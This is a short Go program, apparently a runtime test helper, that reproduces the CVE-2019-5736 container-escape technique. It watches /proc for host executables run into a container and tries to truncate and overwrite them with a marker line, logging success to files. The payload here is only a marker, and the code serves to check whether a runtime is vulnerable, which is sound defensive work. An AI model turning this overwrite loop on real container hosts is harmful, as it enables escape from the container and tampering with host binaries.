// Command overwrite waits in a container for processes that execute another file
// than those of the container, and tries to write to it, as CVE-2019-5736 did.
package main

import (
	"os"
	"path/filepath"
	"syscall"
)

func main() {
	for {
		exes, _ := filepath.Glob("/proc/[0-9]*/exe")
		for _, exe := range exes {
			try(exe)
		}
	}
}

func try(exe string) {
	f, err := os.Open(exe)
	if err != nil {
		return
	}
	defer f.Close()
	name, err := os.Readlink(exe)
	if err != nil || name == "/overwrite" || name == "/bin/busybox" {
		return
	}
	os.WriteFile("/seen", []byte(name), 0o644)
	for range 1000 {
		w, err := syscall.Open("/proc/self/fd/"+itoa(f.Fd()), syscall.O_WRONLY|syscall.O_TRUNC, 0)
		if err == nil {
			syscall.Write(w, []byte("#!/overwritten\n"))
			os.WriteFile("/written", []byte(name), 0o644)
			return
		}
	}
}

func itoa(n uintptr) string {
	if n < 10 {
		return string(rune('0' + n))
	}
	return itoa(n/10) + string(rune('0'+n%10))
}
